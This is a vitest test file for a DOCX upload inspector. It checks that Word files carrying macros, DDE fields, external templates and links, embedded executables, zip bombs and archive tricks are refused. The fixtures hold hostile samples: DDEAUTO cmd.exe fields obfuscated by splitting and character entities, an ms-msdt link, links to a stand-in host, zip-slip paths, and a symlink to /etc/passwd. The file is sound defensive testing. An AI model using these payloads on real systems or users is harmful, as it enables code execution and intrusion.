// @module-tag rest
import { randomBytes } from 'node:crypto'
import { expect, test } from 'vitest'
import { inspectFile } from '../../../src/server/files/inspect.ts'
import { doc, docx, relationship, relationshipPart, zip, zipBomb } from '../../support/files.ts'
import type { ZipPart } from '../../support/files.ts'
import { refusalOf, upload } from '../../support/uploads.ts'

const accepted = async (content: Buffer) => inspectFile(await upload(content, 'laporan.docx'), ['docx'])
const refused = async (content: Buffer) => refusalOf(accepted(content))
const reasonOf = async (content: Buffer) => (await refused(content)).reason

test.each(['[Content_Types].xml', 'word/document.xml'])('without %s it is no docx', async (without) => {
  expect(await refused(docx({ without }))).toMatchObject({ reason: 'jenis-tidak-sesuai', status: 415 })
})

test.each([
  ['vbaProject.bin', { parts: [{ name: 'word/vbaProject.bin', data: 'x' }] }],
  ['VBAPROJECT.BIN elsewhere', { parts: [{ name: 'x/VBAPROJECT.BIN', data: 'x' }] }],
  ['a macro content type', { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }],
  [
    'a macro content type in entities',
    { types: '<Override PartName="/a" ContentType="application/vnd.ms-office.vba&#80;roject"/>' },
  ],
  [
    'a relationship to macros under another name',
    { relationships: relationship('r1', 'vbaProject', 'a.bin') },
  ],
  [
    'an embedded workbook with macros',
    { parts: [embedding('Sheet1.xlsx', zip([{ name: 'xl/vbaProject.bin', data: 'x' }]))] },
  ],
])('docx macros: %s is refused', async (_, options) => {
  expect(await reasonOf(docx(options))).toBe('berbahaya')
})

test.each([
  [
    'an attached template',
    relationship('r1', 'attachedTemplate', 'https://jahat.example/t.dotm', 'External'),
  ],
  ['an attached template inside', relationship('r1', 'attachedTemplate', 'template.dotx')],
  ['a linked picture', relationship('r1', 'image', 'https://jahat.example/p.png', 'External')],
  ['a linked object', relationship('r1', 'oleObject', 'mhtml:https://jahat.example/x.html!x', 'External')],
  ['a frame', relationship('r1', 'frame', 'https://jahat.example', 'external')],
  ['an imported page', relationship('r1', 'aFChunk', 'bagian.htm')],
  ['a link to a network share', relationship('r1', 'hyperlink', '\\\\jahat.example\\bagi\\x', 'External')],
  [
    'a link to a network share by file:',
    relationship('r1', 'hyperlink', 'file://jahat.example/x', 'External'),
  ],
  ['a link that runs script', relationship('r1', 'hyperlink', 'java&#115;cript:alert(1)', 'External')],
  ['a link that starts a program', relationship('r1', 'hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External')],
  [
    'single quotes',
    `<Relationship Id='r1' Type='x/image' Target='https://jahat.example/p.png' TargetMode='External'/>`,
  ],
  [
    'another prefix',
    `<p:Relationship xmlns:p="x" Id="r1" Type="x/image" Target="https://jahat.example" TargetMode="External"></p:Relationship>`,
  ],
])('external references: %s is refused', async (_, relationships) => {
  expect(await reasonOf(docx({ relationships }))).toBe('berbahaya')
})

test('external references are found in the relationships of any part', async () => {
  const part = {
    name: 'word/_rels/settings.xml.rels',
    data: relationshipPart(relationship('r1', 'attachedTemplate', 'file:///C:/t.dotm', 'External')),
  }
  expect(await refused(docx({ parts: [part] }))).toEqual({
    reason: 'berbahaya',
    status: 422,
    message:
      'Berkas Word ini menjalankan perintah, atau mengambil templat, gambar, atau data dari tempat lain. Simpan sebagai PDF lalu unggah lagi.',
  })
})

test.each([
  ['in one piece', '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'],
  ['as an attribute', '<w:fldSimple w:instr="DDE cmd x"/>'],
  [
    'in pieces',
    '<w:instrText xml:space="preserve"> D</w:instrText></w:r><w:r><w:instrText>DEAU</w:instrText></w:r><w:r><w:instrText>TO cmd</w:instrText>',
  ],
  ['in entities', '<w:instrText>&#68;&#x44;E cmd</w:instrText>'],
  ['behind a > in an attribute', '<w:instrText w:x="a>b">DDE cmd</w:instrText>'],
  ['around an instruction', '<w:instrText>D<?x y?>DE cmd</w:instrText>'],
  ['around a comment', '<w:instrText>D<!-- x -->DE cmd</w:instrText>'],
])('DDE: a field %s is refused', async (_, field) => {
  const body = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>${field}</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
  expect(await reasonOf(docx({ body }))).toBe('berbahaya')
  expect(await reasonOf(docx({ parts: [{ name: 'word/header1.xml', data: body }] }))).toBe('berbahaya')
})

const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
/** Word spreads an instruction over as many runs as it likes. */
const pieces = (...texts: string[]) =>
  texts.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('')
const field = (...inside: string[]) =>
  `${mark('begin')}${inside.join('')}${mark('separate')}<w:r><w:t>hasil</w:t></w:r>${mark('end')}`
const dde = field(pieces('QUOTE 68 68 69'))

test.each([
  ['a picture of elsewhere', field(pieces(' INCLUDEPICTURE "http://jahat.example/p.png" \\d '))],
  ['a picture in pieces', field(pieces(' INCL', 'UDEPIC', 'TURE "http://jahat.example/p.png"'))],
  ['a text of elsewhere', field(pieces('INCLUDETEXT "\\\\jahat.example\\bagi\\x.docx"'))],
  ['a switch right behind', field(pieces('INCLUDEPICTURE\\d x'))],
  ['a macro on a click', field(pieces(' MACROBUTTON Jalankan Klik di sini '))],
  [
    'a command inside another field',
    field(pieces('IF 1 = 1 "'), field(pieces('DDEAUTO cmd x')), pieces('"')),
  ],
  ['a command in quotes', field(pieces(' "DDEAUTO" cmd "/k calc"'))],
  ['a command of character codes', field(dde, pieces(' cmd "/k calc"'))],
  ['half a command of character codes', field(pieces('D'), dde, pieces(' cmd'))],
  [
    'a command of character codes in a simple field',
    field('<w:fldSimple w:instr="QUOTE 68 68 69"/>', pieces(' cmd')),
  ],
  ['a deleted command', field('<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r>')],
  ['a simple field', '<w:fldSimple w:instr=" INCLUDETEXT x"/>'],
])('fields: %s is refused', async (_, inside) => {
  const body = `<w:p>${inside}</w:p>`
  expect(await reasonOf(docx({ body }))).toBe('berbahaya')
  expect(await reasonOf(docx({ parts: [{ name: 'word/footnotes.xml', data: body }] }))).toBe('berbahaya')
})

test.each([
  [
    'contents with links and page numbers',
    `${mark('begin')}${pieces(' TOC \\o "1-3" \\h ')}${mark('separate')}${field(pieces(' HYPERLINK \\l "_Toc1" '))}${field(pieces(' PAGEREF _Toc1 \\h '))}${mark('end')}`,
  ],
  [
    'a question with a field in it',
    field(pieces(' IF '), field(pieces(' MERGEFIELD x ')), pieces(' = "1" "a" "b" ')),
  ],
  ['a formula that begins with a field', field(pieces('='), field(pieces('PAGE')), pieces('-1'))],
  ['citations', field(pieces(' ADDIN ZOTERO_ITEM CSL_CITATION {"x":"INCLUDEPICTURE DDE"} '))],
  ['a field that is not ended', `${mark('begin')}${pieces(' PAGE ')}`],
  ['the words themselves', '<w:r><w:t>DDEAUTO dan INCLUDEPICTURE</w:t></w:r>'],
])('fields: %s is taken', async (_, inside) => {
  expect(await accepted(docx({ body: `<w:p>${inside}</w:p>` }))).toMatchObject({ type: 'docx' })
})

test.each([
  ['UTF-16', Buffer.from('\ufeff<w:instrText>DDE</w:instrText>', 'utf16le')],
  ['UTF-16 without a mark', Buffer.from('<w:instrText>DDE</w:instrText>', 'utf16le')],
  ['UTF-7', Buffer.from('<?xml version="1.0" encoding="UTF-7"?><x/>')],
  ['a DTD', Buffer.from('<!DOCTYPE x [<!ENTITY a "DDE">]><x>&a;</x>')],
])('XML that could hide something from us (%s) is refused', async (_, data) => {
  expect(await reasonOf(docx({ parts: [{ name: 'word/footer1.xml', data }] }))).toBe('rusak')
})

test.each(['header1.dat', 'header1.dat?.xml', 'he%61der1.xml'])(
  'DDE: a header that is not read as XML is refused: %s',
  async (target) => {
    const parts = [{ name: 'word/header1.dat', data: '<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>' }]
    expect(await reasonOf(docx({ parts, relationships: relationship('r9', 'header', target) }))).toBe('rusak')
  },
)

test.each(['<w:instrText/>', '<w:instrText xml:space="preserve"/>', '<w:instrText> PAGE </w:instrText>'])(
  'an honest instruction is taken, an empty one too: %s',
  async (inside) => {
    const body = `<w:p><w:r><w:fldChar w:fldCharType="begin"/>${inside}<w:fldChar w:fldCharType="end"/></w:r></w:p>`
    expect(await accepted(docx({ body }))).toMatchObject({ type: 'docx' })
  },
)

test.each(['D<z:x/>DEAUTO cmd', '<z:x/>DDEAUTO cmd'])(
  'DDE: an instruction behind a foreign element is refused: %s',
  async (inside) => {
    const body = `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>${inside}</w:instrText></w:r></w:p>`
    expect(await reasonOf(docx({ body }))).toBe('rusak')
  },
)

test('DDE: a header kept where only data belongs is refused', async () => {
  const parts = [{ name: 'customXml/item1.xml', data: '<w:instrText>DDE cmd</w:instrText>' }]
  const relationships = relationship('r1', 'header', '../customXml/item1.xml')
  expect(await reasonOf(docx({ parts, relationships }))).toBe('rusak')
})

test.each([
  ['an attribute without its end', `<Relationship Id="r1 Type="x/image" TargetMode="External"/>`],
  ['a comment without its end', '<!-- <Relationship Id="r1"/>'],
])('XML that we cannot read (%s) is refused', async (_, relationships) => {
  expect(await reasonOf(docx({ relationships }))).toBe('rusak')
})

test.each(['<w:fldChar ', '<w:instrText ', '<!--', '<?', ' instr="', '<w:fldSimple w:instr=" '])(
  'XML made to be slow (%j a hundred thousand times) is read once',
  async (piece) => {
    const parts = [
      { name: 'word/footer1.xml', data: piece.repeat(100_000) },
      { name: 'word/media/a.png', data: randomBytes(40_000), store: true },
    ]
    const outcome = await accepted(docx({ parts })).catch((error: Error) => error.name)
    expect(['FileRefused', 'docx']).toContain(typeof outcome === 'string' ? outcome : outcome.type)
  },
)

test.each([
  ['a program by its bytes', embedding('oleObject1.bin', 'MZ\x90\0 This program cannot be run in DOS mode')],
  ['a package', embedding('oleObject1.bin', doc({ streams: ['\u0001Ole10Native'] }))],
  [
    'an old workbook with macros',
    embedding('Sheet1.xls', doc({ main: 'Workbook', storages: ['_VBA_PROJECT_CUR'] })),
  ],
  ['a program by its name', { name: 'word/media/gambar.EXE', data: 'x' }],
  ['a program in an embedded archive', embedding('a.docx', zip([{ name: 'x.exe', data: 'x' }]))],
  ['ActiveX', { name: 'word/activeX/activeX1.xml', data: '<x/>' }],
])('embeddings: %s is refused', async (_, part) => {
  expect(await reasonOf(docx({ parts: [part] }))).toBe('berbahaya')
})

test('embeddings: an object kept where nobody looks is refused', async () => {
  const parts = [{ name: 'word/media/image1.bin', data: 'MZ' }]
  expect(
    await reasonOf(docx({ parts, relationships: relationship('r1', 'oleObject', 'media/image1.bin') })),
  ).toBe('berbahaya')
})

test('what students really write is taken: links, page numbers, pictures, formulas, charts', async () => {
  const content = docx({
    text: 'Sistem DDE dan makro dibahas di bab 2',
    body: '<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC \\o "1-3" </w:instrText></w:r></w:p>',
    relationships: [
      relationship('r1', 'hyperlink', 'https://politeknik.example/?a=1&amp;b=2', 'External'),
      relationship('r2', 'hyperlink', 'mailto:dina@politeknik.example', 'External'),
      relationship('r3', 'hyperlink', 'file:///C:/Users/Dina/bab2.docx', 'External'),
      relationship('r4', 'image', 'media/image1.png'),
      relationship('r5', 'oleObject', 'embeddings/oleObject1.bin'),
    ].join(''),
    parts: [
      { name: 'word/media/image1.png', data: randomBytes(2000), store: true },
      { name: 'word/media/image2.svg', data: '<svg/>' },
      { name: 'customXml/item1.xml', data: Buffer.from('\ufeff<sitasi/>', 'utf16le') },
      embedding('oleObject1.bin', doc({ main: 'Equation Native' })),
      embedding('Microsoft_Excel_Sheet1.xlsx', zip([{ name: 'xl/workbook.xml', data: '<x/>' }])),
    ],
  })
  expect(await accepted(content)).toMatchObject({ type: 'docx' })
})

test('zip bomb: more than 100:1 is refused', async () => {
  const bomb = zipBomb()
  expect(bomb.length).toBeLessThan(100_000)
  expect(await refused(bomb)).toEqual({
    reason: 'berbahaya',
    status: 422,
    message: 'Isi berkas ini terlalu besar setelah dibuka. Simpan sebagai PDF lalu unggah lagi.',
  })
})

test('zip bomb: more than 100 MB is refused, below 100:1 too', async () => {
  const parts = [{ name: 'word/media/a.bin', data: randomBytes(2 * 1024 * 1024), size: 101 * 1024 * 1024 }]
  expect(await reasonOf(docx({ parts }))).toBe('berbahaya')
})

test('zip bomb: a part that is larger than it says is not unpacked further', async () => {
  const parts = [{ name: 'word/styles.xml', data: Buffer.alloc(5_000_000, 'a'), size: 1000 }]
  expect(await reasonOf(docx({ parts }))).toBe('rusak')
})

test('zip bomb: nested archives are refused when they are bombs themselves', async () => {
  expect(await reasonOf(docx({ parts: [{ ...embedding('a.docx', zipBomb()), store: true }] }))).toBe(
    'berbahaya',
  )
})

test('zip bomb: entries that share their bytes are refused', async () => {
  const second = { name: 'word/b.bin', data: 'b', store: true }
  const hidden = zip([second]).subarray(0, 30 + second.name.length + 1)
  const shared = docx({ parts: [{ name: 'word/a.bin', data: hidden, store: true }, second] })
  expect(await accepted(shared)).toMatchObject({ type: 'docx' })
  // The directory now finds the second entry inside the bytes of the first.
  shared.writeUInt32LE(shared.indexOf(hidden), shared.lastIndexOf('PK\x01\x02') + 42)
  expect(await reasonOf(shared)).toBe('berbahaya')
})

test('zip bomb: more text than we are willing to read is refused', async () => {
  const pages = [1, 2, 3].map((number) => ({
    name: `word/header${number}.xml`,
    data: Buffer.alloc(11_500_000, 'a'),
  }))
  const pictures = { name: 'word/media/a.png', data: randomBytes(500_000), store: true }
  expect(await accepted(docx({ parts: [...pages.slice(1), pictures] }))).toMatchObject({ type: 'docx' })
  expect(await refused(docx({ parts: [...pages, pictures] }))).toMatchObject({
    reason: 'berbahaya',
    message: 'Isi berkas Word ini terlalu rumit untuk diperiksa. Simpan sebagai PDF lalu unggah lagi.',
  })
})

test('archive tricks: a part whose checksum is wrong is refused', async () => {
  const whole = docx()
  const checksum = whole.lastIndexOf('PK\x01\x02') + 16
  whole.writeUInt32LE((whole.readUInt32LE(checksum) ^ 1) >>> 0, checksum)
  expect(await reasonOf(whole)).toBe('rusak')
})

test('10^6 entries: more than 2,000 are refused, 2,000 are not', async () => {
  const many = (count: number) =>
    docx({
      parts: Array.from({ length: count - 4 }, (_, index) => ({ name: `customXml/${index}.bin`, data: '' })),
    })
  expect(await reasonOf(many(2001))).toBe('berbahaya')
  expect(await accepted(many(2000))).toMatchObject({ type: 'docx' })
})

test.each([
  ['a symbolic link', { name: 'word/media/a.png', data: '/etc/passwd', mode: 0o120777 }, 'berbahaya'],
  ['zip-slip', { name: '../../etc/cron.d/x', data: 'x' }, 'berbahaya'],
  ['zip-slip in the middle', { name: 'word/../../x', data: 'x' }, 'berbahaya'],
  ['zip-slip with backslashes', { name: '..\\x', data: 'x' }, 'berbahaya'],
  ['an absolute path', { name: '/etc/passwd', data: 'x' }, 'berbahaya'],
  ['a drive', { name: 'C:x', data: 'x' }, 'berbahaya'],
  ['NUL in a name', { name: 'word/a\0.png', data: 'x' }, 'berbahaya'],
  ['a device', { name: 'word/a', data: '', mode: 0o060644 }, 'rusak'],
  ['two entries of one name', { name: 'WORD/document.xml', data: 'x' }, 'rusak'],
  ['two names for one entry', { name: 'word/a.bin', localName: 'word/b.bin', data: 'x' }, 'rusak'],
  ['a password', { name: 'word/a.bin', data: 'x', flags: 1 }, 'terkunci'],
] as const)('archive tricks: %s is refused', async (_, part, reason) => {
  expect(await reasonOf(docx({ parts: [part] }))).toBe(reason)
})

test.each([
  ['behind', (whole: Buffer) => Buffer.concat([whole, Buffer.from('<script>alert(1)</script>')])],
  [
    'between',
    (whole: Buffer) => Buffer.concat([whole.subarray(0, -22), Buffer.from('<script>'), whole.subarray(-22)]),
  ],
])('archive tricks: bytes glued %s are refused', async (_, spoil) => {
  expect(await reasonOf(spoil(docx()))).toBe('rusak')
})

function embedding(name: string, data: string | Buffer): ZipPart {
  return {
    name: `word/embeddings/${name}`,
    data: typeof data === 'string' ? Buffer.from(data, 'latin1') : data,
  }
}
